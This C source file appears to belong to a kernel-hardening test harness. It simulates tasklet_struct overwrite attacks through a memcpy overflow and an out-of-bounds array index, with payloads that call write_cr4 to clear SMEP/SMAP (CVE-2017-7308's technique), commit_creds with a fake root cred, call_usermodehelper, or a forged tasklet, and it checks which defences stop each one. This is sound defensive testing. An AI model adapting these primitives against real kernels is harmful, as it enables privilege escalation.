/* SPDX-License-Identifier: MIT */
/*
 * The tasklet family's attacks (issue 28): what the attacker writes into a
 * tasklet (its payloads) and how (the two techniques), then the softirq.
 * The same frame as the timer's (techniques.c, LKDTM's shape): say what is
 * attempted, write, check that the write landed (TH-LANDED), let the
 * victim's tasklet run, say what happened.
 *
 * What the attacker knows is the DEFAULT layout of its generation's
 * tasklet_struct (include/linux/interrupt.h), from its own mirror
 * (struct atk_tasklet); addresses are numbers, never called here. Only the
 * softirq calls them, through tasklet_action_common() (tasklet_core/).
 */
#include "attack.h"

#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include "slab.h"
#include "tasklet_victim.h"

/*
 * The attacker's mirror. v4.14 .. v5.8 and v6.1 share the offsets of next,
 * state, count, func and data; 6.1 puts use_callback in 4.14's padding at
 * +20 and func shares its word with callback. The callback-only tasklet
 * ends after the function word (32 bytes).
 */
struct atk_tasklet {
	uintptr_t next;
	unsigned long state;
	uint32_t count;
	uint8_t use_callback;
	uint8_t pad_[3];
	uintptr_t func;			/* func, or callback */
	unsigned long data;
};
_Static_assert(offsetof(struct atk_tasklet, use_callback) == 20 &&
		       offsetof(struct atk_tasklet, func) == 24 &&
		       offsetof(struct atk_tasklet, data) == 32 && sizeof(struct atk_tasklet) == 40,
	       "the attacker's tasklet_struct: v6.1's offsets");
#define ATK_TL_STATE_SCHED	1UL	/* 1 << TASKLET_STATE_SCHED */
/* The generation's struct ends here, as the attacker counts. */
#define ATK_TL_SIZE		(TH_TL_HAS_DATA ? sizeof(struct atk_tasklet) : offsetof(struct atk_tasklet, data))

/* The generation's own symbols that have no kernel name. */
#if defined(TH_ATK_LEGACY)
#define TL(x)	legacy_##x
#elif defined(TH_ATK_TRANSITIONAL)
#define TL(x)	transitional_##x
#else
#define TL(x)	modern_##x
#endif

/* The generic neighbour's first bytes, as the attacker counts them. */
struct atk_tasklet_neighbour {
	char name[16];
	struct atk_tasklet t;
};
#define ATK_TL_OFF	offsetof(struct atk_tasklet_neighbour, t)
/* hso_serial: the tasklet's byte k is rx_urb_filled[ATK_HSO_IDX0 + k]. */
#define ATK_HSO_IDX0	4

/* The fields a plan writes (bit per field), in the tasklet's order. */
enum { F_NAME = 1, F_NEXT = 2, F_STATE = 4, F_COUNT = 8, F_USE_CB = 16, F_FUNC = 32, F_DATA = 64 };

struct tl_ctx {
	const struct th_attack *a;
	int pending;
	int hso;				/* the victim is hso_serial, else the neighbour */
	struct tasklet_neighbour *n;
	struct hso_serial *serial;
	struct tasklet_struct *t;		/* the victim's tasklet */
	struct atk_tasklet_neighbour img;	/* the image (hso: .t only) */
	size_t end;				/* bytes of the tasklet image a linear write covers */
	unsigned fields;
	size_t plant_len;
	uintptr_t fake;				/* list:forged-tasklet: the forged tasklet */
	uintptr_t resolved;			/* not-address-taken, raw-body */
	char resolved_name[64];
	char what[200];
	unsigned char before[TH_KMALLOC_SIZE];	/* the object's slot */
};

/* Append ", <fmt>" (or "<fmt>" first) to the narration. */
__attribute__((format(printf, 2, 3))) static void say(struct tl_ctx *c, const char *fmt, ...)
{
	size_t len = strlen(c->what);
	va_list ap;

	if (len && len + 2 < sizeof(c->what)) {
		memcpy(c->what + len, ", ", 3);
		len += 2;
	}
	va_start(ap, fmt);
	vsnprintf(c->what + len, sizeof(c->what) - len, fmt, ap);
	va_end(ap);
}

static void set_end(struct tl_ctx *c, size_t end)
{
	if (c->end < end)
		c->end = end;
}

static void set_func(struct tl_ctx *c, uintptr_t fn, const char *name)
{
	c->img.t.func = fn;
	c->fields |= F_FUNC;
	set_end(c, offsetof(struct atk_tasklet, func) + sizeof(uintptr_t));
	say(c, "%s = %s (0x%lx)", TH_TL_HAS_USE_CALLBACK ? "func/callback" : TH_TL_HAS_DATA ? "func" : "callback",
	    name, (unsigned long)fn);
}

/* data is the argument of func(data): choosing it is choosing the argument. */
static void set_data(struct tl_ctx *c, unsigned long v, const char *name)
{
	c->img.t.data = v;
	c->fields |= F_DATA;
	set_end(c, sizeof(struct atk_tasklet));
	say(c, "data = %s (0x%lx)", name, v);
}

static void set_use_callback(struct tl_ctx *c, uint8_t v)
{
	c->img.t.use_callback = v;
	c->fields |= F_USE_CB;
	set_end(c, offsetof(struct atk_tasklet, use_callback) + 1);
	say(c, "use_callback = %s", v ? "true" : "false");
}

static void plant(struct tl_ctx *c, const void *bytes, size_t n, const char *what)
{
	memset(c->img.name, 0, sizeof(c->img.name));
	memcpy(c->img.name, bytes, n);
	c->plant_len = n;
	c->fields |= F_NAME;
	say(c, "name = %s", what);
}

/* CVE-2017-7308's write: func = write_cr4, data = CR4 without SMEP/SMAP. */
static void cve_func_data(struct tl_ctx *c)
{
	set_func(c, (uintptr_t)&write_cr4, "write_cr4");
	set_data(c, TH_CR4_CHOSEN, "CR4 without SMEP/SMAP");
	th_intent.target = "write_cr4";
	th_intent.kind = TH_INTENT_VALUE;
	th_intent.value = TH_CR4_CHOSEN;
}

/* payloads.c's th_payload_resolve(), into the tasklet's plan. */
static int resolve(struct tl_ctx *c, const char *const *names, size_t n)
{
	return th_payload_resolve(names, n, &c->resolved, c->resolved_name, sizeof(c->resolved_name));
}

/* Before the victim exists: what must be there first. Return 0 or -1. */
static int prepare(struct tl_ctx *c)
{
	static const char *const direct[] = { "write_cr4_direct" };
	/* Under cfi-icall tasklet_force_close is the jump-table entry, its
	 * body tasklet_force_close.cfi; without, the function is its body. */
	static const char *const body[] = { "tasklet_force_close.cfi", "tasklet_force_close" };
	struct atk_tasklet forged;

	memset(&th_intent, 0, sizeof(th_intent));
	switch (c->a->payload) {
	case TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN:
		return resolve(c, direct, 1);
	case TH_PAYLOAD_FUNC_RAW_BODY:
		return resolve(c, body, 2);
	case TH_PAYLOAD_LIST_FORGED_TASKLET:
		/* A tasklet of the attacker's, its own layout: last on the list,
		 * SCHED set (tasklet_clear_sched() must find it), enabled, and
		 * write_cr4 as what the softirq calls: func(data) with 6.1's
		 * use_callback false, callback(t) where there is only callback. */
		memset(&forged, 0, sizeof(forged));
		forged.state = ATK_TL_STATE_SCHED;
		forged.use_callback = 0;
		forged.func = (uintptr_t)&write_cr4;
		forged.data = TH_CR4_CHOSEN;
		c->fake = (uintptr_t)spray_alloc(&forged, sizeof(forged));
		if (!c->fake)
			return -1;
		th_emit("TH-NOTE: sprayed a forged tasklet_struct at 0x%lx (address leaked): next = NULL, state = SCHED, count = 0, %sfunc = write_cr4 (0x%lx)%s",
			(unsigned long)c->fake, TH_TL_HAS_USE_CALLBACK ? "use_callback = false, " : "",
			(unsigned long)forged.func, TH_TL_HAS_DATA ? ", data = 0x407f0" : "");
		return 0;
	default:
		return 0;
	}
}

/* The image over the attacker's view (the leaked tasklet, default offsets). */
static void build(struct tl_ctx *c)
{
	c->what[0] = 0;
	switch (c->a->payload) {
	case TH_PAYLOAD_NONE:
		snprintf(c->what, sizeof(c->what), "nothing (control run)");
		break;
	case TH_PAYLOAD_FUNC_DATA_WRITE_CR4:
		cve_func_data(c);
		break;
	case TH_PAYLOAD_USE_CALLBACK_WRITE_CR4:
		/* 6.1's bytes on every generation: the exploit written for
		 * today's tasklet_struct (on 4.14's, +20 is padding: the same
		 * func+data; on the callback-only one, func lands on callback
		 * and data past the struct). */
		set_use_callback(c, 0);
		cve_func_data(c);
		break;
	case TH_PAYLOAD_FUNC_WRITE_CR4:
		set_func(c, (uintptr_t)&write_cr4, "write_cr4");
		th_intent.target = "write_cr4";
		break;
	case TH_PAYLOAD_FUNC_SAME_CLASS:
		set_func(c, (uintptr_t)&tasklet_force_close, "tasklet_force_close");
		th_intent.target = "tasklet_force_close";
		break;
	case TH_PAYLOAD_FUNC_PTR_CLASS: {
		struct atk_cred fake = { .usage = TH_FAKE_CRED_USAGE };

		set_func(c, (uintptr_t)&commit_creds, "commit_creds");
		plant(c, &fake, sizeof(fake), "a fake cred (usage 0x1337, uid 0)");
		th_intent.target = "commit_creds";
		th_intent.kind = TH_INTENT_CRED;
		th_intent.cred.usage = fake.usage;
		break;
	}
	case TH_PAYLOAD_FUNC_OTHER_PROTO:
		set_func(c, (uintptr_t)&call_usermodehelper, "call_usermodehelper");
		plant(c, TH_CHOSEN_PATH, sizeof(TH_CHOSEN_PATH), "\"" TH_CHOSEN_PATH "\"");
		th_intent.target = "call_usermodehelper";
		th_intent.kind = TH_INTENT_STRING;
		snprintf(th_intent.string, sizeof(th_intent.string), "%s", TH_CHOSEN_PATH);
		break;
	case TH_PAYLOAD_FUNC_MID_FUNCTION:
		set_func(c, (uintptr_t)&write_cr4 + 4, "write_cr4+4");
		th_intent.target = "write_cr4";
		break;
	case TH_PAYLOAD_FUNC_DATA_ADDRESS:
		set_func(c, (uintptr_t)&sim_cpu, "&sim_cpu (a data object)");
		th_intent.target = "sim_cpu";
		break;
	case TH_PAYLOAD_FUNC_NOT_ADDRESS_TAKEN:
		set_func(c, c->resolved, "write_cr4_direct (address never taken)");
		th_intent.target = "write_cr4_direct";
		break;
	case TH_PAYLOAD_FUNC_RAW_BODY:
		set_func(c, c->resolved, c->resolved_name);
		th_intent.target = "tasklet_force_close";
		break;
	case TH_PAYLOAD_LIST_FORGED_TASKLET:
		/* kernel/softirq.c tasklet_action_common(): list = list->next
		 * before the call, so the walk goes on to the forged tasklet.
		 * Before tasklet_schedule(), its t->next = NULL rewrites it. */
		c->img.t.next = c->fake;
		c->fields |= F_NEXT;
		set_end(c, offsetof(struct atk_tasklet, next) + sizeof(uintptr_t));
		say(c, "next = the forged tasklet (0x%lx)", (unsigned long)c->fake);
		th_intent.target = "write_cr4";
		if (TH_TL_HAS_DATA) {
			th_intent.kind = TH_INTENT_VALUE;
			th_intent.value = TH_CR4_CHOSEN;
		}
		break;
	default:
		break;
	}
	if (th_aim.name) {
		/* Aimed: the function word at the named symbol, nothing else. */
		memset(&th_intent, 0, sizeof(th_intent));
		c->fields &= ~(unsigned)(F_DATA | F_USE_CB);
		c->what[0] = 0;
		set_func(c, th_aim.addr, th_aim.name);
		th_intent.target = th_aim.name;
	}
}

/* ---- the victim's side ------------------------------------------------------------------ */

static void victim_bytes(const struct tl_ctx *c, unsigned char *out)
{
	const void *obj = c->hso ? (const void *)c->serial : (const void *)c->n;

	/* The object's whole slot: a write past the object shows too. */
	th_peek(out, obj, sizeof(c->before));
}

static void schedule(struct tl_ctx *c, const char *why)
{
	if (c->hso) {
		hso_unthrottle(c->serial);
		th_emit("TH-NOTE: victim: hso_unthrottle(): tasklet_hi_schedule(&serial->unthrottle_tasklet) (%s)", why);
	} else {
		tasklet_schedule(&c->n->tasklet);
		th_emit("TH-NOTE: victim: tasklet_schedule(&neighbour->tasklet) (%s)", why);
	}
}

/* The attacker's view: the bytes where its mirror puts the tasklet, as a
 * leak gives them (before scheduling: next NULL, state 0). Under
 * randstruct the real fields lie elsewhere, and so will its writes. */
static void view(struct tl_ctx *c)
{
	memset(&c->img, 0, sizeof(c->img));
	if (c->hso)
		th_peek(&c->img.t, (const unsigned char *)c->serial->rx_urb_filled + ATK_HSO_IDX0,
			ATK_TL_SIZE);
	else
		th_peek(&c->img, c->n, ATK_TL_OFF + ATK_TL_SIZE);
	if (c->pending)
		th_emit("TH-NOTE: leaked the queued tasklet: next=0x%lx state=0x%lx (kept as they are)",
			(unsigned long)c->img.t.next, c->img.t.state);
}

static void do_memcpy(struct tl_ctx *c)
{
	size_t len = ATK_TL_OFF + c->end;

	if (!c->fields) {
		tasklet_neighbour_set_name(c->n, "eth0-tl1", 9);
		th_emit("TH-NOTE: tasklet_neighbour_set_name(n, \"eth0-tl1\", 9): a legitimate name");
		return;
	}
	th_emit("TH-NOTE: tasklet_neighbour_set_name(n, buf, %zu): name[16] is followed by the tasklet, the copy runs through it",
		len);
	tasklet_neighbour_set_name(c->n, &c->img, len);
}

static void hso_bytes(struct tl_ctx *c, size_t from, size_t to, const char *field)
{
	const unsigned char *b = (const unsigned char *)&c->img.t;

	th_emit("TH-NOTE: rx_urb_filled[%zu..%zu] = ...: the tasklet's %s", ATK_HSO_IDX0 + from,
		ATK_HSO_IDX0 + to - 1, field);
	for (size_t k = from; k < to; k++)
		hso_set_rx_urb_filled(c->serial, (long)(ATK_HSO_IDX0 + k), b[k]);
}

static void do_hso_index(struct tl_ctx *c)
{
	if (!c->fields) {
		hso_set_rx_urb_filled(c->serial, 0, 1);
		th_emit("TH-NOTE: rx_urb_filled[0] = 1: a legitimate index");
		return;
	}
	if (c->fields & F_NEXT)
		hso_bytes(c, 0, 8, "next");
	if (c->fields & F_USE_CB)
		hso_bytes(c, 20, 21, TH_TL_HAS_USE_CALLBACK ? "use_callback" : "padding at +20 (use_callback on 6.1)");
	if (c->fields & F_FUNC)
		hso_bytes(c, 24, 32, TH_TL_HAS_DATA ? "func" : "callback");
	if (c->fields & F_DATA)
		hso_bytes(c, 32, 40, TH_TL_HAS_DATA ? "data" : "8 bytes past the struct (data on 6.1)");
}

/* TH-LANDED: each field the plan meant, as the real struct has it now. */
static void landed(struct tl_ctx *c)
{
	unsigned char after[sizeof(c->before)];
	const unsigned char *tb = (const unsigned char *)c->t;
	char meant[200] = "", changed[200] = "";
	int ok = 0, bad = 0;
	struct {
		unsigned bit;
		const char *label;
		const void *real;
		const void *want;
		size_t size;
	} f[] = {
		{ F_NAME, "name", c->hso ? NULL : c->n->name, c->img.name, c->plant_len },
		{ F_NEXT, "next", &c->t->next, &c->img.t.next, sizeof(uintptr_t) },
#if TH_TL_HAS_USE_CALLBACK
		{ F_USE_CB, "use_callback", &c->t->use_callback, &c->img.t.use_callback, 1 },
#else
		{ F_USE_CB, "+20 (padding here)", tb + 20, &c->img.t.use_callback, 1 },
#endif
#if TH_TL_HAS_DATA
		{ F_FUNC, "func", &c->t->func, &c->img.t.func, sizeof(uintptr_t) },
		{ F_DATA, "data", &c->t->data, &c->img.t.data, sizeof(unsigned long) },
#else
		{ F_FUNC, "callback", &c->t->callback, &c->img.t.func, sizeof(uintptr_t) },
		{ F_DATA, "+32 (past the tasklet)", tb + 32, &c->img.t.data, sizeof(unsigned long) },
#endif
	};
	size_t len;

	victim_bytes(c, after);
	for (size_t i = 0; i < sizeof(f) / sizeof(f[0]); i++) {
		unsigned char real[sizeof(c->img.name)];	/* the widest field: name */
		int same;

		if (!(c->fields & f[i].bit) || !f[i].real || f[i].size > sizeof(real))
			continue;
		th_peek(real, f[i].real, f[i].size);
		same = !memcmp(real, f[i].want, f[i].size);
		ok += same;
		bad += !same;
		len = strlen(meant);
		snprintf(meant + len, sizeof(meant) - len, "%s%s=%s", len ? " " : "", f[i].label,
			 same ? "ok" : "missed");
	}
	{
		size_t first = sizeof(after), last = 0, toff = (size_t)(tb - (const unsigned char *)(c->hso ? (const void *)c->serial : (const void *)c->n));

		for (size_t b = 0; b < sizeof(after); b++)
			if (after[b] != c->before[b]) {
				first = first < b ? first : b;
				last = b;
			}
		if (first < sizeof(after))
			snprintf(changed, sizeof(changed), "bytes +%zu..+%zu of the object (its tasklet: +%zu..+%zu)",
				 first, last, toff, toff + sizeof(struct tasklet_struct) - 1);
	}
	th_emit("TH-LANDED: %s %s; changed: %s", !c->fields ? "no" : !bad ? "yes" : ok ? "partial" : "no",
		meant[0] ? meant : "(control: nothing meant)", changed[0] ? changed : "nothing");
}

/* __do_softirq() (kernel/softirq.c): the pending softirqs, restarted while
 * more are raised, at most MAX_SOFTIRQ_RESTART (10) times; then ksoftirqd
 * would take over. HI_SOFTIRQ before TASKLET_SOFTIRQ, as their numbers. */
static long softirq(void)
{
	long ran = 0, r;

	for (int restart = 0; restart < 10; restart++) {
		unsigned int cpu = th_this_cpu();

		if (TL(softirq_pending)(cpu, HI_SOFTIRQ) && (r = tasklet_hi_action()) > 0)
			ran += r;
		if (TL(softirq_pending)(cpu, TASKLET_SOFTIRQ) && (r = tasklet_action()) > 0)
			ran += r;
		if (!TL(softirq_pending)(cpu, HI_SOFTIRQ) && !TL(softirq_pending)(cpu, TASKLET_SOFTIRQ))
			break;
	}
	return ran;
}

static void name_stoppers(const struct tl_ctx *c)
{
	const char *by_technique = c->hso ? "bounds (-fsanitize=array-bounds: rx_urb_filled[2])"
					  : "fortify (field-spanning memcpy check); not asan (inside one object)";
	const char *by_payload;

	switch (c->a->payload) {
	case TH_PAYLOAD_USE_CALLBACK_WRITE_CR4:
	case TH_PAYLOAD_LIST_FORGED_TASKLET:
		by_payload = TH_TL_HAS_USE_CALLBACK
				     ? "nothing type-based: with use_callback false the softirq calls func(data), a void (*)(unsigned long) site that admits write_cr4; only removing func and data (the callback-only tasklet) does"
				     : TH_TL_HAS_DATA ? "no type-based CFI: write_cr4(unsigned long) has func's prototype"
						      : "cfi-icall, kcfi, fsanitize-function: write_cr4 is not a void (*)(struct tasklet_struct *)";
		break;
	case TH_PAYLOAD_FUNC_SAME_CLASS:
		by_payload = "no type-based CFI: same prototype as the callback";
		break;
	default:
		by_payload = TH_TL_HAS_DATA && !TH_TL_HAS_USE_CALLBACK
				     ? "no type-based CFI where the target is a void (*)(unsigned long)"
				     : "cfi-icall, kcfi, fsanitize-function (not a void (*)(struct tasklet_struct *))";
		break;
	}
	th_emit("TH-NOTE: FAIL: the overwrite reached the call; should have been stopped by %s, or by %s",
		by_technique, by_payload);
}

static void trigger(struct tl_ctx *c)
{
	long ran;

	th_emit("TH-NOTE: the softirq runs (HI_SOFTIRQ, TASKLET_SOFTIRQ): tasklet_action_common()");
	ran = softirq();
	th_schedule_after_softirq();
	if (th_target_hits)
		name_stoppers(c);
	else if (th_legit_hits && !c->fields)
		th_emit("TH-NOTE: control: the legitimate callback ran on its own object");
	else if (th_legit_hits)
		th_emit("TH-NOTE: the legitimate callback ran on its own object: the overwrite did not change the call");
	else if (th_stray_hits)
		th_emit("TH-NOTE: the legitimate callback ran on an argument the attacker did not aim at");
	else
		th_emit("TH-NOTE: no callback ran");
	th_emit("TH-DONE: ran=%ld targets=%lu legit=%lu stray=%lu cr4=0x%lx uid=%u", ran, th_target_hits,
		th_legit_hits, th_stray_hits, th_read_cr4(), current_cred.uid);
}

int th_tasklet_attack_run(const struct th_attack *a)
{
	struct tl_ctx c;

	memset(&c, 0, sizeof(c));
	c.a = a;
	c.pending = a->timing == TH_TIMING_PENDING;
	c.hso = a->technique == TH_TECH_HSO_INDEX;
	th_emit("TH-NOTE: attempting %s on the %s tasklet (config %s, seed %s): %s, %s, payload %s", a->id,
		TH_ATK_VARIANT, TH_ATK_CONFIG, TH_ATK_SEED, th_technique_name(a->technique),
		th_timing_name(a->timing), th_payload_name(a->payload));
	th_emit("TH-NOTE: technique: %s", th_technique_what(a->technique));
	if (prepare(&c))
		return 1;
	if (c.hso) {
		if (!(c.serial = hso_serial_create()))
			return 1;
		c.t = &c.serial->unthrottle_tasklet;
		th_emit("TH-NOTE: victim: hso_serial at %p, unthrottle_tasklet at +%zu (%s)", (void *)c.serial,
			(size_t)offsetof(struct hso_serial, unthrottle_tasklet),
			TH_TL_HAS_DATA && !TH_TL_HAS_USE_CALLBACK ? "tasklet_init(t, hso_unthrottle_tasklet, serial)"
								  : "tasklet_setup(t, hso_unthrottle_tasklet)");
	} else {
		if (!(c.n = tasklet_neighbour_create("eth0-tl")))
			return 1;
		c.t = &c.n->tasklet;
		th_emit("TH-NOTE: victim: tasklet neighbour at %p, its tasklet at +%zu (%s)", (void *)c.n,
			(size_t)offsetof(struct tasklet_neighbour, tasklet),
			TH_TL_HAS_DATA && !TH_TL_HAS_USE_CALLBACK ? "tasklet_init(t, neighbour_tasklet_fn, n)"
								  : "tasklet_setup(t, neighbour_tasklet_fn)");
	}
	if (c.pending)
		schedule(&c, "it is queued while the attacker writes");
	view(&c);
	build(&c);
	th_emit("TH-NOTE: payload %s: %s", th_payload_name(a->payload), c.what);
	victim_bytes(&c, c.before);
	if (c.hso)
		do_hso_index(&c);
	else
		do_memcpy(&c);
	landed(&c);
	if (!c.pending)
		schedule(&c, "after the overwrite");
	trigger(&c);
	return 0;
}
